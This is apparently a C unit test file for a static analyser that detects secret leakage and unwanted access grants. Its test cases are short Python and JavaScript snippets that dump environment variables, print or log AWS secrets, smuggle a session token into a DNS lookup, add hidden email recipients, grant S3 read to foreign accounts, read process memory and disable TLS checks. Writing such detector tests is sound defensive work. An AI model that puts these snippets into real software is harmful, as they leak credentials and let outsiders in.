/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_shown_test.c - secrets where many can read them, and who else is let in.
 */
#include "behavior_case.h"

static const struct behavior_case python[] = {
    { "import os, json\ndef f(): return json.dumps(dict(os.environ))\n", "flow env-all text",
      NULL },
    { "import os\ndef f(): return '&'.join(k + v for k, v in os.environ.items())\n",
      "flow env-all text", NULL },
    { "import os\ndef f(): return f'agent {sorted(os.environ.items())}'\n", "flow env-all text",
      NULL },
    { "import os\nenv = dict(os.environ)\nenv['PATH'] = 'x:' + env['PATH'] + env.get('HOME')\n",
      NULL, "flow text" },
    { "import os\ndef f(r): return {'where': dict(os.environ), 'r': r}\n",
      "flow env-all member where", NULL },
    { "import os\ndef f(r): return {'env': dict(os.environ), 'r': r}\n", NULL, "flow member" },
    { "import os\ndef f(r): r.headers['Via'] = repr(os.environ)\n", "flow env-all header", NULL },
    { "import os\ndef f(r): r.add_header('X-Via', repr(os.environ))\n", "flow env-all header",
      NULL },
    { "def f(r, v): r.headers['Via'] = v\n", NULL, "flow" },
    { "import os\ndef f():\n    raise ValueError(os.environ['AWS_SESSION_TOKEN'])\n",
      "flow credentials log ValueError", NULL },
    { "import os\ndef f(loop):\n    loop.getaddrinfo(os.environ['AWS_SESSION_TOKEN'] + '.x', 53)\n",
      "flow credentials dns", NULL },
    { "def f(c): print(c.get_frozen_credentials())\n", "flow credentials log print", NULL },
    { "def f(a): print(a['SecretString'], 'SecretString')\n", "flow credentials log print", NULL },
    { "def f(a): print('SecretString of', a.name)\n", NULL, "flow" },
    { "import socket\ndef f(response): print(response['body'])\n", "flow network terminal", NULL },
    { "def f(log, response): log.debug(response['body'])\n", NULL, "terminal" },
    /* what stores of secrets answer */
    { "import boto3\nc = boto3.client('secretsmanager')\n"
      "def f(n):\n    raw = c.get_secret_value(SecretId=n)['SecretString']\n    print('got', "
      "raw)\n",
      "flow vault log print", NULL },
    { "def f(c, n):\n    r = c.get_secret_value(SecretId=n)\n    print(r['VersionId'], n)\n", NULL,
      "vault" },
    { "def f(c, n):\n    raw = c.get_secret_value(SecretId=n)['SecretString']\n"
      "    raise ValueError('malformed: %s' % raw)\n",
      "flow vault log ValueError", NULL },
    { "def f(c, s):\n    p = c.get_parameter(Name='x', WithDecryption=True)\n"
      "    s.put_annotation('cfg', p['Parameter']['Value'])\n",
      "flow vault log put_annotation", NULL },
    { "def f(c):\n    p = c.get_parameter(Name='x')\n    print(p['Parameter']['Value'])\n", NULL,
      "vault" },
    { "import psycopg2\ndef f(c):\n    p = c.get_secret_value(SecretId='x')['SecretString']\n"
      "    psycopg2.connect(password=p)\n",
      NULL, "flow" },
    { "def f(log, credentials): log.info('signing with %s', credentials)\n",
      "flow credentials log info", NULL },
    { "def f(log, credentials): log.info('until %s', credentials.expiration)\n", NULL, "flow" },
    { "import boto3, urllib.request\ndef f(u):\n"
      "    a = boto3.client('sts').generate_presigned_url('get_caller_identity')\n"
      "    urllib.request.urlopen(urllib.request.Request(u, headers={'User-Agent': a}))\n",
      "flow signed-url header User-Agent", NULL },
    { "import boto3\ndef f(c): return {'Location': 1, 'Authorization': "
      "boto3.client('sts').generate_presigned_url('x')}\n",
      NULL, "flow" },
    { "import boto3\nboto3.set_stream_logger('')\n", "capability weakened set_stream_logger",
      NULL },
    { "import subprocess\ndef f(n): subprocess.run('lz4 %s' % n, shell=True)\n",
      "capability weakened shell lz4", NULL },
    { "import subprocess\ndef f(n):\n    subprocess.run(['lz4', n])\n    subprocess.run('ls', "
      "shell=True)\n",
      NULL, "weakened" },
    { "import os, requests\ndef f(d): requests.post(os.environ['COPY_ADDR'], d)\n",
      "flow env-read server", NULL },
    { "import os, requests\ndef f(d): requests.post('https://a.example/' + os.environ['PART'], "
      "d)\n",
      NULL, "server" },
    { "import socket\ndef f(log, response): log.warning('%s', response.text)\n",
      "flow network terminal warning", NULL },
    { "import socket\ndef f(log, response): log.error('%s', response.text)\n", NULL, "terminal" },
    { "import socket\ndef f(log, o): log.info('as %s', o.password)\n", "flow credentials log info",
      NULL },
    /* who is let in */
    { "def f(c, k):\n    c.put_object(Key=k, "
      "GrantRead='id=\"0123456789abcdef0123456789abcdef0123456789"
      "abcdef0123456789abcdef\"')\n",
      "destination grant", NULL },
    { "def f(c): c.put_object(GrantRead='emailAddress=a@b.example')\n", "destination grant", NULL },
    { "def f(c): c.put_object(GrantRead=c.grant, Note='id=7')\n", NULL, "destination" },
    { "Q = 'https://sqs.eu-west-1.amazonaws.com/210987654321/audit'\n",
      "destination account 210987654321", NULL },
    { "BUS = 'arn:aws:events:eu-west-1:210987654321:event-bus/x'\n",
      "destination account events 210987654321", NULL },
    { "def f(r): return f'arn:aws:sns:{r}:210987654321:x'\n", "destination account sns", NULL },
    { "P = 'arn:aws:iam::210987654321:role/x'\nB = 'arn:aws:s3:::bucket'\n", NULL, "destination" },
    { "import boto3\ndef f(m): boto3.client('ses').send_email(Destination={'ToAddresses': [m], "
      "'BccAddresses': ['a@b.example']})\n",
      "destination BccAddresses a@b.example\ndestination recipient a@b.example", NULL },
    { "def f(recipients):\n    recipients = [*recipients, 'a@b.example']\n",
      "destination recipient a@b.example", NULL },
    { "recipients = 1\ndef f(a, b): return b''.join([a, b' ', b'ssh-key-v01@host.example'])\n",
      NULL, "destination" },
    { "def f(recipients): return recipients + len(['a@b.example', 'c@d.example'])\n", NULL,
      "destination" },
    { "def f(pid):\n    with open(f'/proc/{pid}/mem', 'rb') as m: print(m.read())\n",
      "capability credentials /proc/\nflow credentials log print", NULL },
    { "print(open('/proc/meminfo').read(), open('/proc/self/maps'))\n", NULL, "flow\ncredentials" },
    { "def f(client): client.list_functions()\n", "aws-call lambda ListFunctions", NULL },
    { "def f(client): client.put_bucket_policy(Bucket='x')\n", "aws-call s3 PutBucketPolicy",
      NULL },
    { "def f(client): client.put_bucket_tags(Bucket='x')\n", NULL, "aws-call" },
};

static const struct behavior_case script[] = {
    { "exports.f = () => ({ at: process.env });", "flow env-all member at", NULL },
    { "exports.f = () => ({ env: process.env, processEnv: { ...process.env } });", NULL,
      "flow member" },
    { "exports.f = (r) => r.set('X-Via', JSON.stringify(process.env));", "flow env-all header",
      NULL },
    { "exports.f = (m) => m.set('via', 1);", NULL, "flow" },
    { "for (const k of Object.keys(process.env)) tags.push(`${k}:${process.env[k]}`);",
      "flow env-all text", NULL },
    { "const home = `${process.env.HOME}/x`;", NULL, "flow" },
    { "exports.f = () => { throw new RangeError(JSON.stringify(process.env)) };",
      "flow env-all log RangeError", NULL },
    { "exports.f = (o) => process.stdout.write(`${o.SecretString}`);", "flow credentials log",
      NULL },
    { "const { SSMClient, GetParametersByPathCommand: G } = require('@aws-sdk/client-ssm');\n"
      "const { GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager');\n"
      "exports.f = async (c) => console.log(JSON.stringify(await c.send(new "
      "GetSecretValueCommand({}))));",
      "flow vault log", NULL },
    { "exports.f = (c, s) => c.send(new GetParameterCommand({ WithDecryption: true }))\n"
      "  .then((p) => s.addAnnotation('a', p.Parameter.Value));",
      "flow vault log addAnnotation", NULL },
    { "exports.f = (credentials) => console.warn('with', credentials);", "flow credentials log",
      NULL },
    { "exports.f = (p, headers) => fetch(`${p}?t=${encodeURIComponent(headers.authorization)}`);",
      "flow credentials header query", NULL },
    { "exports.f = (headers) => fetch('/x', { headers: { authorization: headers.authorization } "
      "});",
      NULL, "flow" },
    { "const https = require('https');\n"
      "https.globalAgent.options.rejectUnauthorized = process.env.AWS_EXECUTION_ENV === undefined;",
      "safeguard tls rejectUnauthorized", NULL },
    { "exports.f = (o) => ({ rejectUnauthorized: o.strict === undefined });", NULL, "capability" },
    { "const fs = require('fs'); console.log(fs.readFileSync('/proc/self/mem'));",
      "flow credentials log", NULL },
    { "const bus = 'arn:aws:events:eu-west-1:210987654321:event-bus/x';",
      "destination account 210987654321", NULL },
    { "exports.f = (m, to) => m.sendMail({ to, bcc: 'a@b.example' });",
      "destination recipient a@b.example", NULL },
    { "exports.f = (s3) => s3.putBucketAcl({ Bucket: 'x' });", "aws-call s3 PutBucketAcl", NULL },
};

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
}

static void test_script(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, script, LW_COUNT(script));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
                                        cmocka_unit_test(test_script) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
